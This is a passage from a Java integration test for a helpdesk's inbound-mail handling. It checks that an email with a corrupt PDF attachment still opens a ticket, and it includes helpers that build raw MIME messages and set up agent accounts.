    Customer claire = customer();
    String boundary = "b-" + unique;
    String raw =
        header(claire.getEmail(), "Facture", null)
            + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\""
            + boundary
            + "\"\n\n--"
            + boundary
            + "\nContent-Type: text/plain; charset=UTF-8\n\nVoici ma facture.\n--"
            + boundary
            + "\nContent-Type: application/pdf\nContent-Disposition: attachment;"
            + " filename=\"facture.pdf\"\nContent-Transfer-Encoding: base64\n\n"
            + "JVBERi0xLjQK=====!!!!*\n--"
            + boundary
            + "--\n";

    Receipt receipt = receive(raw(raw));

    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
    assertEquals("Voici ma facture.", ticketThreads.request(ticket(receipt).getId()).getBody());
    InboundMail mail = asSupervisor.call(() -> inboundMails.ofTicket(receipt.ticketId())).get(0);
    assertTrue(
        mail.getUnreadableParts().startsWith("facture.pdf (application/pdf) : "),
        mail.getUnreadableParts());
  }

  private void answeredByAnAgent(Ticket ticket) {
    long agent =
        accounts
            .openForStaff(
                "agent." + unique + "." + mails++ + "@orthocab.fr",
                "Lucie",
                Role.AGENT,
                "x".toCharArray())
            .getId();
    Ticket now = ticketReads.find(ticket.getId()).orElseThrow();
    tickets.reply(ticket.getId(), now.getVersion(), agent, "Pouvez-vous préciser ?");
  }

  /** A mail the desk wrote about the ticket: its Message-ID. */
  private String deskMailAbout(Ticket ticket, Customer customer) {
    return outbox
        .add(
            new OutboxMessage(
                OutboxTopic.SLA_OBJECTIVE_WARNING,
                new Recipient(customer.getEmail(), null, Language.FR),
                ticket.getId(),
                "[" + ticket.getReference() + "] " + ticket.getSubject(),
                "Réponse",
                Instant.now()))
        .getMessageId();
  }

  private WebClient asAgent() {
    String email = "agent." + unique + "." + mails++ + "@orthocab.fr";
    accounts.openForStaff(email, "Lucie", Role.AGENT, AGENT_PASSWORD.toCharArray());
    WebClient agent = new WebClient(base);
    assertEquals(302, agent.login(email, AGENT_PASSWORD).statusCode());
    return agent;
  }

  /** The Message-ID of the desk's mail asking the sender of that request who they are. */
  private String identificationRequestOf(Ticket held) throws Exception {
    return asSupervisor.call(() -> outbox.about(held.getId())).stream()
        .filter(m -> m.getTopic() == OutboxTopic.IDENTIFICATION_REQUEST)
        .reduce((first, last) -> last)
        .orElseThrow()
        .getMessageId();
  }

  private long customerMessages(Ticket ticket) {
    return ticketThreads.fullThread(ticket.getId()).stream()
        .filter(m -> m.getAuthorKind() == AuthorKind.CUSTOMER)
        .count();
  }

  private byte[] mail(String from, String subject, String inReplyTo, String body, String... extra) {
    return raw(
        header(from, subject, inReplyTo)
            + String.join("", List.of(extra).stream().map(h -> h + "\n").toList())
            + "MIME-Version: 1.0\nContent-Type: text/plain; charset=UTF-8\n"
            + "Content-Transfer-Encoding: 8bit\n\n"
            + body
            + "\n");
  }

  private String header(String from, String subject, String inReplyTo) {
    String messageId = "<it-" + unique + "-" + mails++ + "@mail.example.fr>";
    return "From: "
        + from
        + "\nTo: support@orthocab.fr\nSubject: "
        + subject
        + "\nMessage-ID: "
        + messageId
        + "\nDate: Thu, 26 Nov 2026 10:00:00 +0100\n"
        + (inReplyTo == null
            ? ""
            : "In-Reply-To: " + inReplyTo + "\nReferences: " + inReplyTo + "\n");
  }

  private static String part(String type, String name, byte[] content) {
    return "Content-Type: "
        + type
        + "\nContent-Disposition: attachment; filename=\""
        + name
        + "\"\nContent-Transfer-Encoding: base64\n\n"
        + Base64.getMimeEncoder().encodeToString(content).replace("\r\n", "\n")
        + "\n";
  }

  private static byte[] raw(String text) {
    return text.replace("\r\n", "\n").replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
  }

  private static String messageIdOf(byte[] raw) {
    String text = new String(raw, StandardCharsets.UTF_8);
    int start = text.indexOf("Message-ID: ") + "Message-ID: ".length();
    return text.substring(start, text.indexOf("\r\n", start));
  }
}
